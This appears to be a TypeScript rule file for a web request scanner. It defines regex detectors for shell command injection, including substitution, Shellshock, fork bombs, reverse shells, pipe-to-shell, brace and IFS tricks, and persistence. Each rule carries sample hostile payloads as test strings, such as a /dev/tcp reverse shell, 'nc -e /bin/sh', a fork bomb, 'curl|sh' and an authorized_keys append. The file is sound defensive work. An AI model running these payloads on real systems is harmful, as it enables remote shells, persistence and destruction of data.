import type { Rule } from '../../rule.ts';
import { early, first, values, valuesAndHeaders } from '../words.ts';
import { plainPrograms, unixPrograms } from './programs.ts';

const inside = String.raw`[\s"']{0,3}(?:[\w./?*-]{0,40}/)?`;

/** What only a shell reads: substitutions, functions, redirections to networks. */
export const shellSyntaxRules: readonly Rule[] = [
  {
    id: 'command-substitution',
    family: 'command',
    severity: 'critical',
    paranoia: 1,
    stops: 'Substitutions of a shell, with a command in them, near the beginning of a value.',
    in: values,
    screen: 'substitution',
    when: [
      {
        regex:
          early +
          String.raw`(?:\$\(\s*(?:\(|[/<]|\.{0,2}/|\$\(|` +
          unixPrograms +
          String.raw`\b|(?:cmd|` +
          plainPrograms +
          String.raw`)(?:[\s)/<|;&$]|$))|[<>]\(\s*(?:cmd\b|` +
          unixPrograms +
          String.raw`\b|` +
          plainPrograms +
          String.raw`[\s)])|\$\[\s*[\d(][^\]]*[+*/-][^\]]*\]|\$\{\x60|\x60\s*/?(?:usr/)?s?bin/)`,
      },
    ],
    bad: [
      '$(cmd)',
      '<(cmd)',
      '>(tee log)',
      '$(cat /etc/x)',
      '$((1+1))',
      '$[2+2]',
      '${`id`}',
      '$(echo $(cat $(id)))',
      'x$(whoami)',
      '` /bin/cat /etc/x`',
    ],
    good: ['$(document).ready()', '$("#name")', '$5 (five)', '$ (USD)', 'a <(b) c', '$(this)', "$('.menu').hide()"],
  },
  {
    id: 'command-backticks',
    family: 'command',
    severity: 'critical',
    paranoia: 1,
    stops: 'A command between backticks as the whole value, or appended to one.',
    in: values,
    screen: 'substitution',
    when: [
      {
        regex:
          String.raw`^\S{0,80}\x60` +
          inside +
          `(?:${unixPrograms}|${plainPrograms})` +
          String.raw`(?:[\s<$/;|&][^\x60]{0,200})?\x60\S{0,40}\s*$`,
      },
    ],
    bad: ['`id`', 'x=`cat /etc/x`', '1`sleep 5`', ';`cat<<<ifconfig`'],
    good: ['so you should run `ls -la` to see', 'the `name` of it', '`total`', '`user_id`'],
  },
  {
    id: 'command-function',
    family: 'command',
    severity: 'critical',
    paranoia: 1,
    stops: 'Functions in variables of the environment (Shellshock, CVE-2014-6271).',
    in: valuesAndHeaders,
    screen: 'shellBraces',
    when: [{ regex: String.raw`^["'\s]{0,3}\(\)\s*\{|\(\)\s*\{\s*[:_]?\w{0,3}\s*;\s*\}?\s*;` }],
    bad: [
      { headers: { test: '() {' } },
      '() { :;}; echo x',
      { headers: { 'user-agent': '() { ignored; }; /bin/x' } },
      { target: '/get?()%20{' },
    ],
    good: ['function go() { return 1; }', 'const f = () => { x(); }', 'on(() => {})'],
  },
  {
    id: 'command-fork-bomb',
    family: 'command',
    severity: 'critical',
    paranoia: 2,
    stops: 'Functions that call themselves for ever in the background.',
    in: valuesAndHeaders,
    screen: 'shellBraces',
    when: [{ regex: String.raw`(?:^|[\s;])[^\s(){};&|]{1,20}\s*\(\)\s*\{[^}]{0,40}[|&][^}]{0,40}\}\s*;?\s*[^\s(){};&|]{1,20}\s*$` }],
    bad: [':(){ :|:& };:', 'test() { test | test & } test', 'f(){ f & f; };f'],
    good: ['function f() { return a && b; }', 'myfunction() { echo hello }'],
  },
  {
    id: 'command-reverse-shell',
    family: 'command',
    severity: 'critical',
    paranoia: 1,
    stops: 'Shells that call somebody, and devices that stand for the network.',
    in: [...valuesAndHeaders],
    screen: 'danger',
    when: [
      {
        regex: String.raw`/dev/(?:tcp|udp)/|\b(?:ba|z|k|da)?sh\s+-i\b\s*[0-9]?[<>&]|\bn(?:c|cat|etcat)\b[^\n]{0,60}\s-[a-z]{0,4}[ec]\s*["']?(?:/bin/|cmd|sh\b|bash|powershell)|mkfifo\s+/tmp/|\bsocat\b[^\n]{0,60}exec:|\bexec\s+\d+<>|0<&\d+|\d>&\d+\s*<&\d+|dup2\s*\(\s*s\.fileno|pty\.spawn\s*\(|new-object\s+(?:system\.)?net\.sockets\.tcpclient|\btelnet\s+\S+\s+\d+\s*\|\s*/bin/|-e\s+['"]?use\s+socket|tcpsocket\.(?:open|new)\s*\([^)]{1,60}\)[^\n]{0,40}(?:exec|spawn)`,
      },
    ],
    bad: [
      'bash -i >& /dev/tcp/198.51.100.7/4242 0>&1',
      'nc -e /bin/sh 198.51.100.7 1',
      'rm /tmp/f;mkfifo /tmp/f',
      'import pty; pty.spawn("/bin/sh")',
    ],
    good: ['the device /dev/tty', 'run sh -x script', 'nc is netcat -v'],
  },
  {
    id: 'command-pipe-to-shell',
    family: 'command',
    severity: 'critical',
    paranoia: 1,
    stops: 'What was fetched or decoded piped into a shell, as the value itself.',
    in: values,
    screen: 'danger',
    when: [
      {
        regex: String.raw`^(?:\S+[ \t]+){0,7}\S*\|\s*(?:sudo\s+|/usr)?(?:/bin/)?(?:ba|z|k|da|c|a)?sh\b\s*(?:$|[;|&"'\x60)#<-])|base(?:64|32)\s+(?:-d|-D|--decode)[^\n]{0,40}\|\s*(?:ba|z|k|da)?sh|xxd\s+-r\b[^\n]{0,30}\|\s*\w*sh\b|\|\s*\{?(?:base64|tac|rev|xxd)[,\s][^\n]{0,60}\|\s*\w*sh\b`,
      },
    ],
    bad: [
      'curl http://a.example|sh',
      'echo aWQ= | base64 -d | sh',
      'echo "foo;whxam"i | tr x o | sh #"',
      'printf dwssap/cte/ tac | rev | sh',
      'time whoami | sh',
    ],
    good: ['On Linux and macOS you can install it like this: curl -fsSL https://a.example/install | sh'],
  },
  {
    id: 'command-alias',
    family: 'command',
    severity: 'critical',
    paranoia: 1,
    stops: 'Aliases for commands.',
    in: values,
    screen: 'commandLine',
    when: [{ regex: String.raw`^[^\n]{0,60}\balias\s+(?:[-+]\w+\+?\s+)*["']?[\w.-]{1,30}["']?=` }],
    bad: ['alias x=env&x whoami', 'alias -gmr a=b', "alias 'letter'=curl&letter a.example", 'alias +g+ a=b', "alias ..='cd ..'"],
    good: ['I see, so your alias is not = to your name', 'alias: x=y'],
  },
  {
    id: 'command-shell-variable',
    family: 'command',
    severity: 'critical',
    paranoia: 1,
    stops: 'Variables of a shell where a blank, a slash or a shell is meant.',
    in: valuesAndHeaders,
    screen: 'substitution',
    when: [
      {
        regex:
          String.raw`\$\{?IFS\b|\$\{(?:PATH|HOME|PWD|SHELL|OLDPWD|HOSTNAME|LS_COLORS|BASH\w*|USER)(?:[:#%/^,@]|\*)|` +
          early +
          String.raw`(?:\$\{?SHELL\}?\s+-\w|\$\{\w+(?::-?\d|##?[^}]*\}|%%?[^}]*\}|//?[^}]*/|\^\^?\}|,,?\}|@[A-Za-z]\})|\$\{?!\w+\}|\$'[^'\n]{0,40}\\(?:x[0-9a-f]{2}|[0-7]{3}))|\$\(tr\s|\$\{#\w*\}|\w=[^\s;|&]{1,20};\s*\$\{?\w{1,10}\}?\$\{?\w`,
        caseSensitive: true,
      },
    ],
    bad: [
      'cat$IFS/etc/x',
      'cat${IFS}x',
      '${PATH:0:1}etc',
      '${PATH#}/',
      '${PATH##*}x',
      '$SHELL -c "x"',
      "$'\\x63\\x61'",
      'x;b=wh;c=oami;$b$c',
    ],
    good: ['${name}', 'set it to ${PATH}, then go on', '$5', 'Hello ${user.name}, welcome'],
  },
  {
    id: 'command-braces',
    family: 'command',
    severity: 'critical',
    paranoia: 1,
    stops: 'Braces that a shell expands to a command and its arguments.',
    in: valuesAndHeaders,
    screen: 'shellBraces',
    when: [
      {
        regex: String.raw`^[\w"'(;|&\x60$.:= -]{0,40}\{(?:[\w./"'-]{0,30},(?:-{1,2}\w|["']?[/~]\w|["']?-)[^{}]*|,(?:[A-Za-z]{2}|[$/?"'#])[^{}]*|(?:cat|ls|curl|wget|ping|nc|uname|bash|sh|rm),[^{}]*)\}`,
      },
    ],
    bad: [
      '{cat,/etc/x}',
      '{l,-lh}s',
      '{,ip,a}',
      '{,ifconfig,eth0}',
      ';{curl,attacker.example}',
      '{,echo,#test}',
      "{,$'whoami',}",
      { headers: { 'user-agent': ';{cat,/etc/x}' } },
    ],
    good: ['{id,name}', '{ user, posts }', '[0-9]{,5}', '{"a":1,"b":-2}', 'a{b,c}d'],
  },
  {
    id: 'command-tilde',
    family: 'command',
    severity: 'critical',
    paranoia: 1,
    stops: 'A directory of the shell by its shortest name, or a command of its history.',
    in: values,
    screen: 'shortShell',
    when: [{ regex: String.raw`^\s*(?:~[+-]\d{0,4}|(?:!-?\d{1,3}){2,})\s*$` }],
    bad: ['~+', '~-1', '!-1!-2'],
    good: ['~0', '~z', '~+z', '!1'],
  },
  {
    id: 'command-tilde-number',
    family: 'command',
    severity: 'critical',
    paranoia: 2,
    stops: 'A directory from the stack of the shell.',
    in: values,
    screen: 'shortShell',
    when: [{ regex: String.raw`^\s*~\d{1,4}\s*$` }],
    bad: ['~0'],
    good: ['~5 kg'],
  },
  {
    id: 'command-server-include',
    family: 'command',
    severity: 'critical',
    paranoia: 1,
    stops: 'Server-side includes that run commands or read files.',
    in: valuesAndHeaders,
    screen: 'serverInclude',
    when: [
      {
        regex: String.raw`<!--\s*#\s*(?:exec|include|echo|printenv|config|set|fsize|flastmod)\b|<esi:(?:include|inline|debug|vars|remove|assign|try)\b`,
      },
    ],
    bad: ['<!--#exec cmd="/bin/cat /etc/x" -->', '<!--#include virtual="/x"-->', '<esi:include src="http://a.example/"/>'],
    good: ['<!-- #1 of the list -->', '<!-- exec -->'],
  },
  {
    id: 'command-persist',
    family: 'command',
    severity: 'critical',
    paranoia: 1,
    stops: 'Keys, jobs and programs put where they stay or run.',
    in: [...values, 'headers'],
    screen: 'danger',
    when: [
      {
        regex: String.raw`>{1,2}\s*[^\s;|&]{0,60}(?:\.ssh/authorized_keys|/etc/(?:cron|passwd|shadow|sudoers|ld\.so)|/var/spool/cron|\.bashrc)|\bchattr\s+[+-]i\s|(?:>|>>|-o|-O|tee(?:\s+-a)?)\s*[^\s;|&]{0,80}\.(?:php\d?|phtml|jspx?|aspx?|war)\b|^(?:\S*[ \t]+){0,4}\S*?\b(?:wget|curl|lwp-download|fetch)\b[^\n]{0,200}(?:;|&&)\s*(?:chmod|sh|bash|perl|python|php|\./)|\bxmrig\b|stratum\+tcp:|rm\s+-rf?\s+(?:--no-preserve-root\s+)?/(?:\*|\s|$)`,
      },
    ],
    bad: [
      'echo x >> ~/.ssh/authorized_keys',
      'wget http://a.example/x -O /tmp/x; chmod +x /tmp/x',
      'echo PD9 > /var/www/x.php',
      'curl http://a.example/m.sh -o m;sh m',
    ],
    good: ['my key is in ~/.ssh/authorized_keys', 'wget and curl'],
  },
  {
    id: 'command-client-escape',
    family: 'command',
    severity: 'critical',
    paranoia: 2,
    stops: 'Commands that clients of databases and editors take from within (\\! and .shell).',
    in: values,
    screen: 'escapeCommand',
    when: [
      {
        regex:
          first +
          String.raw`(?:[;\n]|\\n)\s*\.\\?['"]?(?:shell|system|sh|import|output|once|load|excel|dump|read)\b\s+\S|(?:^|[\s;:+])\\?!\s*(?:whoami|id|pwd|sh|bash|cat|ls|curl)\b`,
      },
    ],
    bad: [';\n.shell nc 198.51.100.7 1 -e sh', '1;.sh whoami', 'x\n.system id', 'vim +\\!whoami'],
    good: ['Oh no! The cat', 'x; .5'],
  },
];
